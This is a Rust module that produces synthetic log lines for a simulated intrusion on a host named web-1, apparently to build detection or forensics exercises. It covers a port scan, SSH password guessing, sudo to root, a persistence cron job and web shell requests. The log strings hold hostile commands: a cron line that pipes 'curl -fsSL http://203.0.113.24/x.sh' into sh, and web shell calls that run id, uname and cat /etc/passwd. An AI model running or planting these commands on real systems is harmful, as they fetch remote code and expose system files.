//! What goes wrong on the day of the attack: in from 203.0.113.24, up to root, and there to stay.

use jiff::Timestamp;

use super::lines::{Exec, Line, Request, access, audit, exec, kernel, syslog};
use super::{HOSTS, moment, traffic::blocked};

const ATTACKER: &str = "203.0.113.24";

/// The lines of the attack, in order of time. It begins at 13:00.
pub fn lines(start: Timestamp) -> Vec<Line> {
    let at = |seconds: i128| moment(start, (13 * 3600 + seconds) * 1_000_000_000);
    let mut lines = Vec::new();
    port_scan(&mut lines, &at);
    logins(&mut lines, &at);
    root(&mut lines, &at);
    cron_job(&mut lines, &at);
    web_shell(&mut lines, &at);
    lines.sort_by_key(|line| line.at);
    lines
}

fn port_scan(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
    const PORTS: [u16; 16] =
        [21, 22, 23, 25, 110, 135, 139, 143, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080];
    for (second, port) in (0..).zip(PORTS) {
        for (host, address) in HOSTS.iter().take(5) {
            lines.push(kernel(at(second), host, &blocked(ATTACKER, address, 41_022 + port % 997, port)));
        }
    }
}

fn logins(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
    let users = [
        "root",
        "invalid user admin",
        "root",
        "invalid user test",
        "deploy",
        "root",
        "invalid user oracle",
        "deploy",
    ];
    for (place, user) in (0_u16..).zip(users.iter().cycle().take(40)) {
        let message = format!("Failed password for {user} from {ATTACKER} port {} ssh2", 50_000 + place);
        lines.push(syslog(
            at(300 + i128::from(place) * 3),
            "web-1",
            "auth.log",
            &format!("sshd[{}]", 21_000 + place),
            &message,
        ));
    }
    let success = format!("Accepted password for deploy from {ATTACKER} port 50111 ssh2");
    lines.push(syslog(at(450), "web-1", "auth.log", "sshd[21044]", &success));
    lines.push(syslog(
        at(450),
        "web-1",
        "auth.log",
        "sshd[21044]",
        "pam_unix(sshd:session): session opened for user deploy(uid=1100) by (uid=0)",
    ));
}

fn root(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
    let sudo = "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash";
    lines.push(syslog(at(480), "web-1", "auth.log", "sudo", sudo));
    lines.push(syslog(
        at(480),
        "web-1",
        "auth.log",
        "sudo",
        "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1100)",
    ));
    let shell =
        Exec { exe: "/usr/bin/bash", arguments: &["/bin/bash"], auid: 1100, uid: 0, cwd: "/home/deploy" };
    lines.extend(exec(at(480), "web-1", 500_001, &shell));
}

fn cron_job(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
    lines.extend(audit(at(520), "web-1", 500_010, [
        (
            "SYSCALL",
            "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd3b0e a2=241 a3=1b6 items=2 ppid=21050 pid=21061 \
             auid=1100 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=77 comm=\"tee\" exe=\"/usr/bin/tee\" \
             subj=unconfined key=\"cron\""
                .to_owned(),
        ),
        ("CWD", "cwd=\"/root\"".to_owned()),
        ("PATH", "item=0 name=\"/etc/cron.d/\" inode=131156 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT".to_owned()),
        ("PATH", "item=1 name=\"/etc/cron.d/sysstat2\" inode=131337 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE".to_owned()),
        ("PROCTITLE", "proctitle=746565002F6574632F63726F6E2E642F7379737374617432".to_owned()),
    ]));
    for minute in 0..3_u32 {
        let message = format!("(root) CMD (curl -fsSL http://{ATTACKER}/x.sh | sh)");
        lines.push(syslog(at(540 + i128::from(minute) * 60), "web-1", "syslog", "CRON[21101]", &message));
        let command = format!("curl -fsSL http://{ATTACKER}/x.sh | sh");
        let arguments = ["/bin/sh", "-c", command.as_str()];
        let fetched = Exec { exe: "/usr/bin/dash", arguments: &arguments, auid: 0, uid: 0, cwd: "/root" };
        lines.extend(exec(at(540 + i128::from(minute) * 60), "web-1", 500_020 + u64::from(minute), &fetched));
    }
}

fn web_shell(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
    for (place, command) in (0..).zip(["id", "uname%20-a", "cat%20/etc/passwd"]) {
        let request = format!("POST /uploads/images/cache.php?cmd={command}");
        let shell = Request {
            client: ATTACKER,
            target: &request,
            status: 200,
            size: 512,
            referer: "-",
            agent: "python-requests/2.32.3",
        };
        lines.push(access(at(800 + place * 20), "web-1", &shell));
    }
}
